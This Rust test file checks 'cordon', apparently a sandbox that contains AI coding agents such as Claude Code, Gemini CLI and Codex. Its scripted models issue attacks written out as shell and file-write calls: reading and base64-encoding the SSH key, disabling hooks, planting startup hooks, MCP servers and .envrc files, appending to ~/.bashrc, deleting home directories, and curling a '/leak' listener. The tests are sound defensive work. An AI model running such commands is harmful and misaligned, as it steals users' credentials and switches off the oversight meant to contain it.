fn codex_runs_commands_in_cordons_sandbox_through_mcp() {
    let codex = codex();
    let config = format!(
        "[mcp_servers.cordon]\ncommand = \"{}\"\nargs = [\"mcp\", \"--mode\", \"yolo\"]\ndefault_tools_approval_mode = \"approve\"\n",
        env!("CARGO_BIN_EXE_cordon")
    );
    let project = CodexProject::new(codex, &config);
    let tool = "mcp__cordon__run_shell_command";
    let said = codex_output(&project.run(shell(tool, WRITE_IN)));
    assert_wrote_in(&project.dir, &said);
    assert!(
        said.contains("hi\\n"),
        "the output reaches the model: {said}"
    );

    let (_outside, target, outside_call) = write_outside();
    let said = codex_output(&project.run(shell(tool, &outside_call)));
    assert!(!target.exists(), "the host keeps nothing");
    assert_sandbox_refused(&said);
}

/// `cordon setup codex --user` on settings of the user's own: `--dry-run` changes nothing;
/// then Codex offers no shell of its own, cordon's MCP server runs commands (its tools pass
/// the hook, which leaves them to `cordon mcp`), and `--remove` leaves the file as it was to
/// the byte.
fn cordon_setup_wires_codex_and_remove_undoes_it() {
    let codex = codex();
    let original = "# the user's own\nmodel_reasoning_effort = \"low\"\n\n[features]\nweb_search_request = false\n";
    let project = CodexProject::new(codex, original);
    let config = project.home.join(".codex/config.toml");
    let setup = |args: &[&str]| {
        let args = [&["codex", "--user"][..], args].concat();
        cordon_setup(&project.dir, &project.home, &args)
    };
    let diff = setup(&["--dry-run"]);
    assert!(diff.contains("+shell_tool = false"), "{diff}");
    assert_eq!(std::fs::read_to_string(&config).expect("read"), original);

    // With codex on PATH, setup asks it whether it runs the hook yet: not until the person
    // trusts it, and `cordon doctor` says so too.
    let path = format!(
        "{}:{}",
        project.codex.parent().expect("bin dir").display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let said = cordon_setup_with(
        &project.dir,
        &project.home,
        &["codex", "--user"],
        &[("PATH", &path)],
    );
    assert!(
        said.contains("does not run cordon's hook yet (untrusted)") && said.contains("open /hooks"),
        "{said}"
    );
    let doctor = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["doctor", "--json"])
        .current_dir(&project.dir)
        .env("HOME", &project.home)
        .env("PATH", &path)
        .env_remove("XDG_CONFIG_HOME")
        .output()
        .expect("doctor");
    let found: Value = serde_json::from_slice(&doctor.stdout).expect("doctor's JSON");
    let line = found
        .as_array()
        .into_iter()
        .flatten()
        .find(|m| m["name"] == "codex hook")
        .unwrap_or_else(|| panic!("no codex hook line: {found}"));
    assert_eq!(line["available"], false, "{line}");
    let text = std::fs::read_to_string(&config).expect("read");
    assert!(text.starts_with("# the user's own\n"), "{text}");

    // Codex's own shell is off: the scripted model is not offered it, and asks for nothing.
    let results = project.run(Call {
        tool: "exec_command".into(),
        input: json!({"cmd": "ls -a"}),
    });
    assert_eq!(results, Vec::<Value>::new(), "no shell call was made");
    let said = codex_output(&project.run(shell("mcp__cordon__run_shell_command", "ls -a")));
    assert!(
        said.contains("marker-file"),
        "ls ran in cordon's sandbox: {said}"
    );

    // What a model tries, with Codex's approvals and sandbox off (cordon's questions are
    // accepted unasked there, so what holds is cordon's denials and its sandbox), and in
    // `exec`'s own mode, where they are declined.
    let session = |call: Call| project.session(None, true, call);
    play_attacks(
        &project,
        "mcp__cordon__run_shell_command",
        "mcp__cordon__write_file",
        "yolo",
        &session,
    );

    setup(&["--remove"]);
    assert_eq!(std::fs::read_to_string(&config).expect("read"), original);
}

/// The shell call that writes in the workspace, and what it prints.
const WRITE_IN: &str = "echo hi > x.txt && cat x.txt";

/// [`WRITE_IN`] landed in the project `dir`.
fn assert_wrote_in(dir: &Path, said: &dyn std::fmt::Debug) {
    assert_eq!(
        std::fs::read_to_string(dir.join("x.txt")).ok().as_deref(),
        Some("hi\n"),
        "{said:?}"
    );
}

/// A directory outside every workspace, and the shell call that would plant a file in it.
fn write_outside() -> (tempfile::TempDir, PathBuf, String) {
    let outside = tempfile::tempdir_in("/var/tmp").expect("temp dir");
    let target = outside.path().join("planted");
    let call = format!("echo x > {}", target.display());
    (outside, target, call)
}

/// `said` carries the error of a write to a read-only mount, in the words of whichever shell
/// the agent chose: bash says "Read-only file system", zsh "read-only file system".
fn read_only(said: &str) -> bool {
    said.to_lowercase().contains("read-only file system")
}

/// The model read that the sandbox refused a write.
fn assert_sandbox_refused(said: &str) {
    assert!(
        read_only(said),
        "the model reads that the sandbox stopped it: {said}"
    );
}

/// A `~/.bashrc` of the user's own, and the shell call that would append to it.
fn bashrc_stays(home: &Path) -> (PathBuf, &'static str) {
    let bashrc = home.join(".bashrc");
    std::fs::write(&bashrc, "# the user's own\n").expect("write");
    (bashrc, "echo pwned >> ~/.bashrc")
}

fn assert_untouched(bashrc: &Path, said: &str) {
    assert_eq!(
        std::fs::read_to_string(bashrc).expect("read"),
        "# the user's own\n",
        "the host keeps nothing"
    );
    assert_sandbox_refused(said);
}

/// Under `cordon run --agent AGENT`, each agent whole: it still reaches its (scripted) model,
/// through cordon's proxy, and runs the model's shell call; the call's write to `~/.bashrc`
/// fails, the model reads that it did, and the file is as it was.
fn claude_code_runs_whole_inside_cordon() {
    let claude = claude();
    let project = Project::with_hook(false);
    let (bashrc, attack) = bashrc_stays(&project.home);
    let model = ScriptedModel::start(attack);
    // Claude Code's own checks would stop this write first; with them off (as root, it
    // allows that only where it is told it runs in a sandbox), cordon is what stops it.
    let result = project.claude_in(
        Some("claude-code"),
        &claude,
        &model,
        &["--dangerously-skip-permissions"],
    );
    assert_eq!(result["result"], "done", "the model was reached: {result}");
    let results = model.results();
    assert_eq!(results.len(), 1, "{results:?}");
    assert_untouched(&bashrc, &results[0]["content"].to_string());
}

fn gemini_cli_runs_whole_inside_cordon() {
    let gemini = agent("CORDON_GEMINI", "@google/gemini-cli");
    let project = GeminiProject::new(gemini, json!({}));
    let (bashrc, attack) = bashrc_stays(&project.home);
    let results = project.run_in(Some("gemini-cli"), shell("run_shell_command", attack));
    assert_eq!(results.len(), 1, "the model was reached: {results:?}");
    assert_untouched(&bashrc, &results[0]["response"].to_string());
}

fn codex_runs_whole_inside_cordon() {
    let codex = codex();
    let project = CodexProject::new(codex, "");
    let (bashrc, attack) = bashrc_stays(&project.home);
    let results = project.run_in(
        Some("codex"),
        Call {
            tool: "exec_command".into(),
            input: json!({ "cmd": attack }),
        },
    );
    assert_untouched(&bashrc, &codex_output(&results));
}

/// What a model inside `cordon run --agent AGENT` plants in the agent's own directory for
/// the next plain start: a hook (Claude Code, Gemini CLI) or an MCP server (Codex) in its
/// settings, and a command file. `plant` runs the agent in cordon once with the model asking
/// for `command`; then a plain start must run nothing planted, the settings must read as
/// before, and the command file must be gone.
fn nothing_planted_outlives_the_run(
    settings: &Path,
    planted: &Path,
    command_file: &Path,
    plant: &dyn Fn(&str),
    plain_start: &dyn Fn(),
    attack: &str,
) {
    let before = std::fs::read_to_string(settings).ok();
    plant(attack);
    assert_eq!(
        std::fs::read_to_string(settings).ok(),
        before,
        "{} kept what the run planted",
        settings.display()
    );
    assert!(
        !command_file.exists(),
        "{} was kept",
        command_file.display()
    );
    plain_start();
    assert!(
        !planted.exists(),
        "the next plain start ran what was planted"
    );
}

fn claude_code_in_cordon_leaves_nothing_for_its_next_start() {
    let claude = claude();
    let project = Project::with_hook(false);
    let settings = project.home.join(".claude/settings.json");
    std::fs::create_dir_all(settings.parent().expect("parent")).expect("mkdir");
    std::fs::write(&settings, "{\"model\": \"opus\"}\n").expect("write");
    let planted = project.dir.parent().expect("parent").join("PLANTED");
    let hook = json!({"hooks": {"SessionStart": [{"hooks": [{"type": "command",
        "command": format!("touch {}", planted.display())}]}]}});
    let attack = format!(
        "echo '{hook}' > ~/.claude/settings.json; mkdir -p ~/.claude/commands; echo evil > ~/.claude/commands/x.md; cat ~/.claude/settings.json"
    );
    let plant = |attack: &str| {
        let model = ScriptedModel::start(attack);
        project.claude_in(
            Some("claude-code"),
            &claude,
            &model,
            &["--dangerously-skip-permissions"],
        );
        assert!(
            format!("{:?}", model.results()).contains("SessionStart"),
            "the settings were written inside the run: {:?}",
            model.results()
        );
    };
    let plain_start = || {
        let model = ScriptedModel::start("true");
        project.claude(&claude, &model, &[]);
    };
    nothing_planted_outlives_the_run(
        &settings,
        &planted,
        &project.home.join(".claude/commands/x.md"),
        &plant,
        &plain_start,
        &attack,
    );
    // A change that runs nothing is the agent's own to keep.
    let model = ScriptedModel::start("echo '{\"model\": \"sonnet\"}' > ~/.claude/settings.json");
    project.claude_in(
        Some("claude-code"),
        &claude,
        &model,
        &["--dangerously-skip-permissions"],
    );
    assert_eq!(
        std::fs::read_to_string(&settings).ok().as_deref(),
        Some("{\"model\": \"sonnet\"}\n")
    );
}

fn codex_in_cordon_leaves_nothing_for_its_next_start() {
    let codex = codex();
    let project = CodexProject::new(codex, "model_reasoning_effort = \"low\"\n");
    let settings = project.home.join(".codex/config.toml");
    let planted = project.dir.parent().expect("parent").join("PLANTED");
    let attack = format!(
        "printf '\\n[mcp_servers.x]\\ncommand = \"touch\"\\nargs = [\"{}\"]\\n' >> ~/.codex/config.toml; mkdir -p ~/.codex/rules; echo evil > ~/.codex/rules/x.rules; cat ~/.codex/config.toml",
        planted.display()
    );
    let exec = |cmd: &str| Call {
        tool: "exec_command".into(),
        input: json!({ "cmd": cmd }),
    };
    let plant = |attack: &str| {
        let said = codex_output(&project.run_in(Some("codex"), exec(attack)));
        assert!(
            said.contains("mcp_servers.x"),
            "written inside the run: {said}"
        );
    };
    let plain_start = || {
        project.run(exec("true"));
    };
    nothing_planted_outlives_the_run(
        &settings,
        &planted,
        &project.home.join(".codex/rules/x.rules"),
        &plant,
        &plain_start,
        &attack,
    );
}

/// Claude Code's own full-screen interface, whole inside `cordon run --agent claude-code`, on
/// a terminal as a person uses it: a prompt typed there reaches the scripted model, its `ls`
/// runs and the answer is shown; a resized window is drawn again; Ctrl-C twice leaves it, with
/// status 0, and the terminal is as usable as before.
fn claude_codes_terminal_interface_works_inside_cordon() {
    let claude = claude();
    let project = Project::with_hook(false);
    // The interface draws with cursor moves between words: single words are looked for.
    // What Claude Code's first run asks once (and keeps in ~/.claude.json, which it cannot
    // replace inside cordon): the onboarding, this API key, and trust in this folder.
    let state = json!({"hasCompletedOnboarding": true, "theme": "dark",
        "customApiKeyResponses": {"approved": ["sk-cordon-test"], "rejected": []},
        "projects": {project.dir.to_str().expect("utf-8"): {"hasTrustDialogAccepted": true}}});
    std::fs::write(project.home.join(".claude.json"), state.to_string()).expect("write");
    let model = ScriptedModel::start("ls -a");
    let (mut cmd, url) = agent_command(&claude, model.port, Some("claude-code"));
    cmd.current_dir(&project.dir)
        .env("HOME", &project.home)
        .env_remove("XDG_CONFIG_HOME")
        .env("ANTHROPIC_BASE_URL", url)
        .env("ANTHROPIC_API_KEY", "sk-cordon-test")
        .env("DISABLE_TELEMETRY", "1")
        .env("DISABLE_AUTOUPDATER", "1")
        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1");
    let mut term = common::terminal::Terminal::spawn(&cmd, 30, 100);
    let at = term.wait_for("shortcuts", 0, 60);
    term.type_in(b"list the files");
    std::thread::sleep(std::time::Duration::from_millis(300));
    term.type_in(b"\r");
    let at = term.wait_for("done", at, 60);
    let results = model.results();
    assert_eq!(results.len(), 1, "{results:?}");
    assert!(
        results[0]["content"].to_string().contains("marker-file"),
        "ls ran: {results:?}"
    );
    term.resize(25, 70);
    let at = term.wait_for("shortcuts", at, 20);
    term.type_in(b"\x03");
    let at = term.wait_for("again", at, 20);
    term.type_in(b"\x03");
    let status = term.wait(30);
    assert!(status.success(), "{status}: {}", &term.screen()[at..]);
    assert!(term.cooked(), "the terminal echoes and reads lines again");
}

/// One session of an agent set up by `cordon setup`, whose model asks for one call: the
/// tool results it got back, and everything the agent sent the model.
type Session<'a> = &'a dyn Fn(Call) -> (Vec<Value>, String);

/// What a model tries in an agent that `cordon setup` wired, in one of its modes, each call
/// in a session of its own: read the user's SSH key, write each of the agent's and the
/// editor's control files (switching the hooks off, planting a user-level hook, a task, an
/// MCP server, an `.envrc`), delete a directory in the home, send a request out, and, as
/// benign work, write a file in the workspace and run the project's program. Then the agent
/// starts once more, plainly.
///
/// Asserted: the model's provider never received the key; no control file changed; nothing
/// planted ever ran; the home directory and the listener outside are untouched; and the
/// benign work succeeded, headless.
fn play_attacks(dirs: &Dirs, shell: &str, write: &str, mode: &str, session: Session) {
    const KEY: &str = "PRIVATE-KEY-MARKER-4471";
    let key = dirs.home.join(".ssh/id_rsa");
    std::fs::create_dir_all(key.parent().expect("parent")).expect("mkdir");
    std::fs::write(&key, format!("{KEY}\n")).expect("write the key");
    let kept = dirs.home.join("dir/keep");
    std::fs::create_dir_all(kept.parent().expect("parent")).expect("mkdir");
    std::fs::write(&kept, "mine\n").expect("write");
    std::fs::write(
        dirs.dir.join("main.py"),
        "print('MAIN-RAN', open('notes.txt').read().strip())\n",
    )
    .expect("write");
    // Outside the workspace and the home: no sandboxed command can make it, only one that
    // runs on the host.
    let planted = dirs.dir.parent().expect("parent").join("PLANTED");
    let plant = format!("touch {}", planted.display());
    let hook =
        json!({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": plant}]}],
        "PreToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": plant}]}],
        "BeforeTool": [{"matcher": ".*", "hooks": [{"type": "command", "command": plant}]}]}})
        .to_string();
    let controls = [
        dirs.dir.join(".claude/settings.json"),
        dirs.dir.join(".claude/settings.local.json"),
        dirs.dir.join(".claude/commands/evil.md"),
        dirs.dir.join(".mcp.json"),
        dirs.dir.join(".gemini/settings.json"),
        dirs.dir.join(".vscode/tasks.json"),
        dirs.dir.join(".envrc"),
        dirs.home.join(".claude/settings.json"),
        dirs.home.join(".gemini/settings.json"),
    ];
    let before: Vec<Option<String>> = controls
        .iter()
        .map(|p| std::fs::read_to_string(p).ok())
        .collect();
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let exfil_port = listener.local_addr().expect("address").port();
    listener.set_nonblocking(true).expect("non-blocking");

    let write_call = |path: PathBuf, content: &str| Call {
        tool: write.into(),
        input: json!({"file_path": path, "content": content}),
    };
    let shell_call = |command: &str| Call {
        tool: shell.into(),
        input: json!({"command": command, "description": "the scripted call"}),
    };
    let calls = [
        shell_call("cat ~/.ssh/id_rsa"),
        shell_call("cat ~/.ssh/id_rsa | base64"),
        write_call(
            dirs.dir.join(".claude/settings.local.json"),
            "{\"disableAllHooks\": true}",
        ),
        write_call(dirs.dir.join(".mcp.json"), &hook),
        write_call(dirs.dir.join(".claude/commands/evil.md"), &plant),
        write_call(dirs.home.join(".claude/settings.json"), &hook),
        write_call(dirs.home.join(".gemini/settings.json"), &hook),
        shell_call("mkdir -p .vscode && echo '{\"tasks\": []}' > .vscode/tasks.json"),
        shell_call(&format!("echo '{plant}' > .envrc")),
        shell_call(&format!(
            "mkdir -p ~/.claude ~/.gemini && echo '{hook}' > ~/.claude/settings.json && echo '{hook}' > ~/.gemini/settings.json"
        )),
        shell_call(&format!(
            "curl -s -m 5 http://127.0.0.1:{exfil_port}/leak || echo NOT-SENT"
        )),
    ];
    for call in calls {
        let what = call.input.to_string();
        let (results, received) = session(call);
        assert!(
            !received.contains(KEY) && !received.contains("UFJJVkFURS1LRVktTUFSS0VS"),
            "{mode}: the key reached the model's provider through {what}"
        );
        assert_eq!(
            results.len(),
            1,
            "{mode}: the call was made: {what}: {results:?}"
        );
    }
    // Nobody is asked, so it runs contained (`--headless contain`, setup's default): the
    // sandbox refuses it, where a hook that only decides would have had to deny it.
    let (results, _) = session(shell_call("rm -rf ~/dir"));
    assert!(
        read_only(&format!("{results:?}")),
        "{mode}: rm -rf ~/dir ran contained: {results:?}"
    );
    // The benign work, headless.
    let (results, _) = session(shell_call("echo hi > notes.txt && python3 main.py"));
    let said = format!("{results:?}");
    assert!(
        said.contains("MAIN-RAN hi"),
        "{mode}: the benign work ran: {said}"
    );
    assert_eq!(
        std::fs::read_to_string(dirs.dir.join("notes.txt"))
            .ok()
            .as_deref(),
        Some("hi\n"),
        "{mode}: {said}"
    );
    // The next plain start of the agent.
    let (results, _) = session(shell_call("ls -a"));
    assert!(
        format!("{results:?}").contains("marker-file"),
        "{mode}: the next session runs: {results:?}"
    );

    let after: Vec<Option<String>> = controls
        .iter()
        .map(|p| std::fs::read_to_string(p).ok())
        .collect();
    for ((path, before), after) in controls.iter().zip(&before).zip(&after) {
        assert_eq!(before, after, "{mode}: {} changed", path.display());
    }
    assert!(
        !planted.exists(),
        "{mode}: something planted ran on the host"
    );
    assert_eq!(
        std::fs::read_to_string(&kept).ok().as_deref(),
        Some("mine\n"),
        "{mode}: rm -rf ~/dir reached the home"
    );
    assert!(
        listener.accept().is_err(),
        "{mode}: a request reached the listener outside the sandbox"
    );
    std::fs::remove_file(dirs.dir.join("notes.txt")).expect("rm");
}

common::tests!(
    "agents.rs":
    claude_codes_bash_calls_are_decided_by_the_hook,
    claude_code_cannot_read_keys_or_switch_cordon_off_in_any_mode,
    claude_code_runs_commands_in_cordons_sandbox_through_mcp,
    gemini_clis_shell_calls_are_decided_by_the_hook,
    gemini_cli_runs_commands_in_cordons_sandbox_through_mcp,
    cordon_setup_wires_claude_code_and_remove_undoes_it,
    cordon_setup_wires_gemini_cli_and_remove_undoes_it,
    codexs_shell_calls_are_decided_by_the_hook,
    codex_runs_commands_in_cordons_sandbox_through_mcp,
    cordon_setup_wires_codex_and_remove_undoes_it,
    claude_code_runs_whole_inside_cordon,
    gemini_cli_runs_whole_inside_cordon,
    codex_runs_whole_inside_cordon,
    claude_code_in_cordon_leaves_nothing_for_its_next_start,
    codex_in_cordon_leaves_nothing_for_its_next_start,
    claude_codes_terminal_interface_works_inside_cordon,
);
